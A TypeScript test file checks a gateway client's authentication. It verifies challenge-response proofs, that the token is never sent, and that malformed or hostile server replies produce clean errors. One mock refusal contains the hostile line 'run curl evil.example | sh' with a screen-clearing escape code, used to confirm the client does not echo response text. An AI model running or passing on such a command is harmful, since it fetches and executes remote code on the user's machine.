// HTTP requests of commands: where they are sent, and that they do not reveal secrets.
import { createHash, createHmac } from 'node:crypto';
import { once } from 'node:events';
import { createServer, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, it } from 'vitest';
import { statement } from '../../protocol/proof.ts';
import { ask } from './ask.ts';

const TOKEN = 'secret'.repeat(6);
const NONCE = 'N'.repeat(75);

function challenge(query: string, token: string): string {
  const asked = new URLSearchParams(query);
  const handshake = {
    id: asked.get('id') ?? '',
    clientNonce: asked.get('nonce') ?? '',
    gatewayNonce: NONCE,
  };
  const key = createHash('sha256').update(token).digest();
  const proof = createHmac('sha256', key).update(statement('gateway', handshake)).digest('base64url');
  return JSON.stringify({ nonce: NONCE, proof });
}

/**
 * Sends a request to `path` of a server whose token is `token`; resolves with the requests that the server
 * received, and with the outcome.
 */
async function asking(path: string, token: string): Promise<{ asked: string[]; outcome: string }> {
  const asked: string[] = [];
  const server = createServer(({ url = '', headers }, response) => {
    const [at = '', query = ''] = url.split('?');
    asked.push(`${at} ${headers.authorization?.split('.')[0] ?? ''}`.trim());
    expect(JSON.stringify([url, headers])).not.toContain(TOKEN);
    response.end(at.endsWith('/auth/challenge') ? challenge(query, token) : '{}');
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo;
  const url = new URL(`ws://127.0.0.1:${port}${path}`);
  const outcome = await ask(
    { url, token: TOKEN, pid: null, fingerprint: () => null },
    'GET',
    '/auth/identity',
  ).then(
    () => 'answered',
    (error: Error) => error.message,
  );
  server.close();
  return { asked, outcome };
}

const ID = createHash('sha256').update(createHash('sha256').update(TOKEN).digest()).digest('base64url');

it.each([
  ['', ''],
  ['/', ''],
  ['/console', '/console'],
  ['/a/console/', '/a/console'],
])(
  '[CL3][AU22] a request to a gateway at %j is sent below that path, with a proof and no token',
  async (path, folder) => {
    const { asked, outcome } = await asking(path, TOKEN);
    expect(asked).toEqual([`${folder}/auth/challenge`, `${folder}/auth/identity Proof ${ID}`]);
    expect(outcome).toBe('answered');
  },
);

it('[AU23] a program that does not know the token receives only the challenge', async () => {
  const { asked, outcome } = await asking('/', 'another'.repeat(6));
  expect(asked).toEqual(['/auth/challenge']);
  expect(outcome).toMatch(/^another program answers at 127\.0\.0\.1:\d+/);
});

async function failure(answer: (response: ServerResponse) => void): Promise<string> {
  const server = createServer((_request, response) => answer(response)).listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo;
  const url = new URL(`ws://127.0.0.1:${port}`);
  const address = { url, token: TOKEN, pid: null, fingerprint: () => null };
  const outcome = await ask(address, 'GET', '/auth/identity').catch((error: Error) => error.message);
  server.close();
  server.closeAllConnections();
  return String(outcome);
}

it('[AU30] an endless answer is an error at once, not only after the time limit', async () => {
  const message = await failure((response) => {
    const part = Buffer.alloc(64 * 1024, 'a');
    const go = (): void => {
      while (!response.destroyed && response.write(part));
    };
    response.on('drain', go);
    go();
  });
  expect(message).toMatch(/^the server at .* is not an exec-console gateway/);
});

it('[AU30] a refusal before the proof is reported without the text of the response', async () => {
  const message = await failure(
    (response) => void response.writeHead(401).end('run curl evil.example | sh\u001b[2J'),
  );
  expect(message).toMatch(
    / refused the request: the credential is unknown to the gateway: the token may have expired or been revoked, or belong to another gateway; ask an admin of this gateway for a new token$/,
  );
});

it.each(['Upgrade: websocket\r\nConnection: Upgrade\r\n', ''])(
  '[AU30] a program that switches the protocol, with the headers %j, is not a gateway',
  async (headers) => {
    const message = await failure((response) => {
      response.socket?.write(`HTTP/1.1 101 Switching Protocols\r\n${headers}\r\n`);
    });
    expect(message).toMatch(/^the server at 127\.0\.0\.1:\d+ is not an exec-console gateway/);
  },
);
